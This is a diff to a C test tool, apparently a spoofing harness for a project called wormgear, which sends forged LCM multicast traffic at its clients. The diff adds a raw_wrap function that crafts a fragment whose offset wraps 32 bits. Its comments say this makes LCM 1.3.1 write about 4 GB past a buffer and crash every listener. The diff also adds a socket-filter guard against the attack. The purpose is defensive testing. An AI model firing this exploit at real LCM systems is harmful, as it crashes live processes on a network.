@@ -20,7 +20,9 @@
  * udpm URL, the same bytes sent so that LCM 1.3.1 hands them on with a
  * length of 4294967295 (raw_misread): walked against that length, the
  * claimed 2^31 - 1 bytes carried a client's check past its buffer (two
- * datagrams killed wgctl status with SIGSEGV).
+ * datagrams killed wgctl status with SIGSEGV). And a fragment whose offset
+ * and size wrap 32 bits (raw_wrap), which LCM 1.3.1 copies ~4 GB past its
+ * buffer: a client that does not filter its socket (wg_mcast_guard) dies.
  * With "flood", only this: messages of 250 kB (bytes no type decodes) on
  * PREFIX STATE, as fast as it can publish them, for a client whose loop
  * stalls: LCM queues what the loop has not handled.
@@ -41,6 +43,7 @@
 #include "lcmtypes/wormgear_poincare_t.h"
 #include "lcmtypes/wormgear_state_t.h"
 #include "lcmtypes/wormgear_status_t.h"
+#include "wormgear/wg_mcast.h"
 
 #include <arpa/inet.h>
 #include <lcm/lcm.h>
@@ -136,7 +139,7 @@ static void section(lcm_t *l, const char *ch, int64_t seq, double omega)
     wormgear_poincare_t_publish(l, ch, &p);
 }
 
-static int forge_acks(lcm_t *l, const char *prefix, double end)
+static int forge_acks(lcm_t *l, const char *url, const char *prefix, double end)
 {
     forger f = {.l = l};
     char cc[128];
@@ -147,6 +150,11 @@ static int forge_acks(lcm_t *l, const char *prefix, double end)
     channel(cs, sizeof cs, prefix, "STATUS");
     channel(cp, sizeof cp, prefix, "POINCARE");
     wormgear_cmd_t_subscription_t *s = wormgear_cmd_t_subscribe(l, cc, on_cmd, &f);
+    char why[512] = "";
+    if (wg_mcast_guard(url, why, sizeof why)) { /* the subscription opened LCM's socket */
+        fprintf(stderr, "wgspoof: %s\n", why);
+        return 1;
+    }
     for (int64_t seq = 0; now_s() < end; seq++) {
         double zero6[6] = {0};
         wormgear_status_t st = {.utime = (int64_t)(now_s() * 1e6), .seq = seq, .scene = "table3",
@@ -304,6 +312,27 @@ static void raw_misread(raw *r, const char *ch, const unsigned char *b, int len)
     sendto(r->fd, d, 8 + cl, 0, (struct sockaddr *)&r->to, sizeof r->to);
 }
 
+/* Beneath LCM: a message in two fragments whose second's offset + size wraps
+ * 32 bits (0xffffff00 + 512). LCM 1.3.1 checks the sum in 32 bits and
+ * copies the fragment ~4 GB past the buffer the first fragment made: one
+ * such pair killed every process listening (SIGSEGV). A client's socket
+ * filter (wg_mcast_guard) drops the second before LCM reads it. */
+static void raw_wrap(raw *r, const char *ch)
+{
+    unsigned char d[1500] = {0};
+    size_t cl = strlen(ch);
+    if (r->fd < 0 || 21 + cl + 1300 > sizeof d)
+        return;
+    uint32_t seqno = r->seqno++;
+    uint32_t h[4] = {htonl(0x4c433033), htonl(seqno), htonl(3000), 0}; /* "LC03" */
+    uint16_t k[2] = {0, htons(2)};                                      /* fragment 0 of 2 */
+    memcpy(d, h, 16), memcpy(d + 16, k, 4), memcpy(d + 20, ch, cl + 1);
+    sendto(r->fd, d, 21 + cl + 1300, 0, (struct sockaddr *)&r->to, sizeof r->to);
+    h[3] = htonl(0xffffff00u), k[0] = htons(1); /* fragment 1, at 4 GB - 256 */
+    memcpy(d, h, 16), memcpy(d + 16, k, 4), memset(d + 20, 0x41, 512);
+    sendto(r->fd, d, 20 + 512, 0, (struct sockaddr *)&r->to, sizeof r->to);
+}
+
 /* A valid message's bytes with the int32 at byte at set to 2^31 - 1, on ch,
  * and misread beneath LCM. */
 static int publish_bent(lcm_t *l, raw *r, const char *ch, unsigned char *buf, int len, int at)
@@ -336,6 +365,8 @@ static int publish_hostile_bytes(lcm_t *l, raw *r, const char *prefix)
     n = wormgear_ack_t_encode(buf, 0, sizeof buf, &a);
     channel(ch, sizeof ch, prefix, "ACK");
     rc |= publish_bent(l, r, ch, buf, n, 8 + 8 + 8); /* client's length */
+    channel(ch, sizeof ch, prefix, "STATUS");
+    raw_wrap(r, ch);
     return rc;
 }
 
@@ -360,7 +391,7 @@ int main(int argc, char **argv)
     channel(cq, sizeof cq, argv[2], "PARAMS");
     double end = now_s() + atof(argv[3]);
     if (argc == 5 && (!strcmp(argv[4], "flood") || !strcmp(argv[4], "ack"))) {
-        int frc = !strcmp(argv[4], "ack") ? forge_acks(l, argv[2], end) : flood(l, ct, end);
+        int frc = !strcmp(argv[4], "ack") ? forge_acks(l, argv[1], argv[2], end) : flood(l, ct, end);
         lcm_destroy(l);
         return frc;
     }
